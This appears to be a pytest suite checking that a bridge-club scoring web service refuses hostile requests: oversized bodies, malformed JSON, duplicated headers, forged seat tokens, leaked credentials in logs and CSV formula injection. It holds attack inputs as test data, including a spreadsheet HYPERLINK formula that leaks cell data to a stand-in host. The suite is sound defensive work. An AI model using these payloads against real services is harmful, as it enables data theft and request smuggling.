"""What the service refuses, over real HTTP: bodies over the limit (413, a 100 MB stream included, the server's
memory bounded), JSON it cannot honour (NaN, Infinity, lone surrogates, deep nesting: 422, never 500), 422s
that do not echo large input, loosely typed adjustments, a body the guard and FastAPI could read two ways
(repeated Content-Type or Content-Length: 400; not JSON: 415) and the journal acknowledging after such an
attack; what every answer carries (security headers); the database file private; the API docs served from the
package."""
from __future__ import annotations

import csv
import io
import os
import signal
import stat
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from service_harness import ServerProcess, ServiceThread, raw_request

from results import cell_text
from service.sim.dealing import deal_for

CONFIG = {"tables": [{"id": "1"}, {"id": "2"}], "regulation": {"spectators": {"delay_s": 0}}}
MB = 1024 * 1024


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    with ServerProcess(tmp_path_factory.mktemp("hardening"), CONFIG) as srv:
        yield srv


@pytest.fixture
def director(server: ServerProcess) -> Iterator[httpx.Client]:
    with server.client(server.token) as d:
        yield d


def rss_kb(server: ServerProcess) -> int:
    assert server.proc is not None
    for line in Path(f"/proc/{server.proc.pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def raw_post(client: httpx.Client, path: str, body: bytes | str) -> httpx.Response:
    data = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    return client.post(path, content=data, headers={"Content-Type": "application/json"})


def test_json_the_service_cannot_honour_is_refused_with_422(server: ServerProcess, director: httpx.Client) -> None:
    cases: list[tuple[str, bytes | str]] = [
        ("/api/tables/1/events", '{"type":"board","board":NaN}'),
        ("/api/tables/1/events", '{"type":"board","board":Infinity}'),
        ("/api/tables/1/events", '{"type":"board","board":-Infinity}'),
        ("/api/event/round", '{"round":1e400}'),
        ("/api/tables/1/events", '{"type":"call","seat":"N","call":"1C","source":"\\ud800"}'),
        ("/api/tables/1/events", '{"type":"call","seat":"N","call":"1C","source":"\ud800"}'),   # raw surrogate bytes
        ("/api/tables/1/rulings", '{"code":"X","option":"y","tricks":NaN}'),
        ("/api/tables/1/events", "[" * 5000 + "]" * 5000),
        ("/api/tables/1/events", '{"a":' * 40 + "1" + "}" * 40),
        ("/api/tables/1/events", b"\xff\xfe{}"),
        ("/api/signin", '{"code":"\\udfff"}'),
    ]
    with server.client() as anon:
        for client in (director, anon):
            for path, body in cases:
                r = raw_post(client, path, body)
                assert r.status_code == 422, (path, body[:40], r.status_code, r.text[:300])
                assert "detail" in r.json()
    assert director.get("/api/health").status_code == 200


def test_a_422_does_not_echo_large_input(director: httpx.Client) -> None:
    huge = "x" * 300_000
    for path, body in (("/api/tables/1/events", {"type": "call", "seat": "N", "call": huge}),
                       ("/api/tables/1/rulings", {"code": huge, "option": huge}),
                       ("/api/tables/1/events", {"type": "nonsense", "junk": [huge] * 1})):
        r = director.post(path, json=body)
        assert r.status_code == 422, r.text[:200]
        assert len(r.content) < 4000, len(r.content)
    r = raw_post(director, "/api/tables/1/events", b'"' + b"y" * 900_000 + b'"')
    assert r.status_code == 422 and len(r.content) < 4000


def test_bodies_over_the_limit_are_refused_and_memory_stays_bounded(server: ServerProcess) -> None:
    with server.client() as anon:
        anon.get("/api/health")
        before = rss_kb(server)
        # declared too large: refused from the header, before a byte is read
        r = raw_post(anon, "/api/tables/1/events", b"{" + b" " * (2 * MB) + b"}")
        assert r.status_code == 413, r.text[:200]

        # 100 MB streamed without a length: refused as soon as it passes the limit
        def chunks() -> Iterator[bytes]:
            yield b'{"type":"call","seat":"N","call":"'
            for _ in range(100):
                yield b"a" * MB
            yield b'"}'
        try:
            r = anon.post("/api/tables/1/events", content=chunks(), headers={"Content-Type": "application/json"})
            assert r.status_code == 413, r.text[:200]
        except (httpx.RemoteProtocolError, httpx.WriteError):
            pass          # the server answered 413 and closed while the client was still sending
        # also a body of another content type
        r = anon.post("/api/tables/1/events", content=b"z" * (3 * MB), headers={"Content-Type": "text/plain"})
        assert r.status_code == 413
        r = anon.post("/api/tables/1/events", content=(b"z" * MB for _ in range(5)),
                      headers={"Content-Type": "text/plain"})
        assert r.status_code == 413
        after = rss_kb(server)
    assert after - before < 40 * 1024, f"resident memory grew from {before} kB to {after} kB"
    assert httpx.get(server.base + "/api/health").status_code == 200


def test_security_headers_on_pages_api_and_errors(server: ServerProcess) -> None:
    with server.client() as anon:
        for path in ("/", "/console", "/seat", "/docs", "/api/health", "/api/tables/nope", "/static/common.js",
                     "/openapi.json"):
            r = anon.get(path)
            h = r.headers
            assert h["referrer-policy"] == "no-referrer", path
            assert h["x-content-type-options"] == "nosniff", path
            assert h["x-frame-options"] == "DENY", path
            csp = h["content-security-policy"]
            assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "default-src 'self'" in csp
        assert raw_post(anon, "/api/tables/1/events", "{NaN").headers["referrer-policy"] == "no-referrer"


def test_opener_policy_only_where_a_browser_obeys_it(server: ServerProcess) -> None:
    """Over plain http on the club's LAN a browser ignores Cross-Origin-Opener-Policy and logs an error on every
    page: the header goes only to the machine itself (a trustworthy origin over http) and to https."""
    with server.client() as anon:
        for host, sent in (("127.0.0.1:8000", True), ("localhost:8000", True), ("[::1]:8000", True),
                           ("192.168.1.20:8000", False), ("club.example:8000", False)):
            r = anon.get("/console", headers={"Host": host})
            assert r.status_code == 200
            assert (r.headers.get("cross-origin-opener-policy") == "same-origin") is sent, host
            assert r.headers["x-frame-options"] == "DENY"


def test_api_docs_are_served_from_the_package(server: ServerProcess) -> None:
    with server.client() as anon:
        page = anon.get("/docs")
        assert page.status_code == 200 and "/static/docs.js" in page.text
        assert "http://" not in page.text and "https://" not in page.text, "nothing fetched from the internet"
        js = anon.get("/static/docs.js")
        assert js.status_code == 200 and "/openapi.json" in js.text and "https://" not in js.text
        assert anon.get("/openapi.json").json()["paths"]


def test_adjustments_are_strictly_typed(director: httpx.Client) -> None:
    director.post("/api/tables/2/events", json={"type": "board", "board": 1, "deal": deal_for(5, 1).to_pbn()})
    url = "/api/tables/2/boards/1/adjustment"
    for bad in ({"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": True},
                {"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": "9"},
                {"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": 9.0},
                {"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": 14},
                {"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": -1},
                {"kind": "artificial", "ns": True, "ew": "A"},
                {"kind": "artificial", "ns": "sixty", "ew": "A"},
                {"kind": "artificial", "ns": "NaN", "ew": "A"},
                {"kind": "artificial", "ns": 100.5, "ew": "A"},
                {"kind": 1}):
        r = director.post(url, json=bad)
        assert r.status_code == 422, (bad, r.status_code, r.text)
    r = director.post(url, json={"kind": "assigned", "contract": "4S", "declarer": "N", "tricks": 9})
    assert r.status_code == 200, r.text
    assert r.json()["adjustment"]["tricks"] == 9


def test_the_database_is_private(server: ServerProcess) -> None:
    for p in (server.database, server.database + "-wal", server.database + "-shm"):
        if os.path.exists(p):
            assert stat.S_IMODE(os.stat(p).st_mode) == 0o600, p
    assert os.path.exists(server.database + "-wal")


MITCHELL_3 = {"name": "Tuesday pairs", "scoring": "MP",
              "movement": {"kind": "mitchell", "tables": 3, "boards_per_round": 2}}
JSON, TEXT = ("Content-Type", "application/json"), ("Content-Type", "text/plain")


def test_a_body_read_two_ways_is_refused_and_the_journal_keeps_acknowledging(tmp_path: Path) -> None:
    """Two Content-Type headers once let a name with a lone surrogate past the strict-JSON check (the guard read
    the last, FastAPI the first) into the journal, whose writer died: nothing was acknowledged any more and the
    process ignored SIGTERM. Now the guard refuses the request, and whatever reaches the journal cannot kill it."""
    srv = ServerProcess(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}).start()
    try:
        with srv.client(srv.token, timeout=5) as d:
            assert d.post("/api/event", json=MITCHELL_3).status_code == 200
            auth = ("Authorization", f"Bearer {srv.token}")
            name = b'{"N":"a\\ud800"}'
            size = ("Content-Length", str(len(name)))
            for ctypes in ([JSON, TEXT], [TEXT, JSON], [JSON, JSON]):
                status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, *ctypes], name, 5)
                assert status == 400 and b"content-type" in body, (ctypes, status, body)
            status, _ = raw_request(srv.port, "POST", "/api/tables/1/players",
                                    [auth, size, ("Content-Length", "5"), JSON], name, 5)
            assert status == 400                    # two lengths: which one ends the body?
            status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, TEXT], name, 5)
            assert status == 415 and b"JSON" in body, (status, body)
            status, body = raw_request(srv.port, "POST", "/api/tables/1/players", [auth, size, JSON], name, 5)
            assert status == 422 and b"surrogate" in body, (status, body)
            # the journal still acknowledges: names, a table event, a director call
            r = d.post("/api/tables/1/players", json={"N": "Ann", "S": "Bob"})
            assert r.status_code == 200, r.text
            assert d.post("/api/tables/2/events", json={"type": "board", "board": 3}).status_code == 200
            assert d.post("/api/tables/2/director").status_code == 200
            health = d.get("/api/health").json()
            assert health["status"] == "ok" and health["journal_failure"] is None and health["events"] == 1
            assert d.get("/api/tables/2").json()["seq"] == 1
    finally:
        assert srv.proc is not None
        srv.proc.send_signal(signal.SIGTERM)
        try:
            srv.proc.wait(5)
        finally:
            srv.kill()
    assert "journal-writer" not in srv.log_path.read_text()


def test_a_seat_token_has_one_spelling(tmp_path: Path) -> None:
    """A token's round and generation are ASCII digits written one way: '²' (a digit to ``str.isdigit``, not
    to ``int``) was a 500, and '00', '٠' (Arabic-Indic zero) or '０' (full width) were the same credential."""
    with ServiceThread(tmp_path, {"tables": [{"id": "1"}]}) as srv, srv.seat_client("1", "N") as north:
        north.get("/api/whoami")
        token = north.auth.token                                              # type: ignore[attr-defined]
        kind, table, seat, rnd, mark, gen, mac = token.split(".")
        with srv.client(token) as c:
            assert c.get("/api/whoami").json() == {"role": "seat", "table": "1", "seat": "N"}
        arabic, wide = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"), str.maketrans("0123456789", "０１２３４５６７８９")
        spellings = [("0" + rnd, gen), ("+" + rnd, gen), (" " + rnd, gen), (rnd.translate(arabic), gen),
                     (rnd.translate(wide), gen), ("²", gen), (rnd, "0" + gen), (rnd, gen.translate(arabic)),
                     (rnd, "²"), (rnd, gen + "_")]
        for r, g in spellings:
            forged = ".".join((kind, table, seat, r, mark, g, mac))
            assert httpx.get(srv.base + "/api/whoami", params={"token": forged}).status_code == 401, (r, g)
            link = ".".join(("link", table, seat, r, mark, g, mac))
            assert httpx.post(srv.base + "/api/signin", json={"code": link}).status_code == 401, (r, g)
            header = f"Bearer {forged}"
            if all(ord(ch) < 256 for ch in header):                          # a header carries Latin-1 only
                status, _ = raw_request(srv.port, "GET", "/api/whoami", [("Authorization", header)], timeout=5)
                assert status == 401, (r, g, status)


def test_no_spelling_of_a_credential_parameter_reaches_the_log(tmp_path: Path) -> None:
    """The server reads ``%74oken=`` as ``token=``: the access log blanks every spelling of a credential
    parameter (percent-encoded, once or twice, in any case)."""
    srv = ServerProcess(tmp_path, {"tables": [{"id": "1"}]}, extra_args=("--log-level", "info"))
    with srv, srv.client() as anon:
        secret = srv.token
        for query in (f"%74oken={secret}", f"TOKEN={secret}", f"ToK%65n={secret}", f"x=1&%74%6F%6B%65%6E={secret}",
                      f"sign%69n={secret}", f"%2574oken={secret}", f"x=1;token={secret}"):
            anon.get(f"/api/whoami?{query}")
        assert anon.get(f"/api/whoami?%74oken={secret}").json()["role"] == "director"       # read as token=
    log = srv.log_path.read_text()
    assert "GET /api/whoami?" in log, "the access log was written"
    assert secret not in log, [line for line in log.splitlines() if secret in line][:3]


def test_names_in_the_csv_exports_cannot_become_formulas(tmp_path: Path) -> None:
    """A name a seat enters is written to the ranking CSV: one a spreadsheet would run (``=HYPERLINK``, ``@``,
    ``+``, ``-``) starts with ``'``; ordinary names and negative scores read back as they were."""
    hostile = {"N": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "S": "@SUM(1+1)"}
    with ServiceThread(tmp_path, {"regulation": {"spectators": {"delay_s": 0}}}) as srv, \
            srv.client(srv.token) as d:
        assert d.post("/api/event", json=MITCHELL_3).status_code == 200
        assert d.post("/api/tables/1/players", json=hostile).status_code == 200
        assert d.post("/api/tables/1/players", json={"E": "-Ann", "W": "Bob Li"}).status_code == 200
        for body in ({"type": "board", "board": 1}, {"type": "contract", "contract": "4S", "declarer": "N"},
                     {"type": "claim", "seat": "N", "tricks": 8},
                     {"type": "claim_response", "seat": "E", "accept": True},
                     {"type": "claim_response", "seat": "W", "accept": True}):
            assert d.post("/api/tables/1/events", json=body).status_code == 200, body
        ranking = d.get("/api/exports/csv", params={"part": "ranking"})
        travellers = d.get("/api/exports/csv")
    assert ranking.status_code == 200 and travellers.status_code == 200
    rows = list(csv.DictReader(io.StringIO(ranking.text)))
    cells = [r["names"] for r in rows] + [v for r in rows for v in r.values()]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), cells
    names = {cell_text(r["names"]) for r in rows}
    assert " - ".join(hostile.values()) in names and "-Ann - Bob Li" in names, names
    assert any(r["names"].startswith("'=HYPERLINK") for r in rows)
    scores = [r["score_ns"] for r in csv.DictReader(io.StringIO(travellers.text))]
    assert scores == ["-100"], scores                                      # a number stays a number
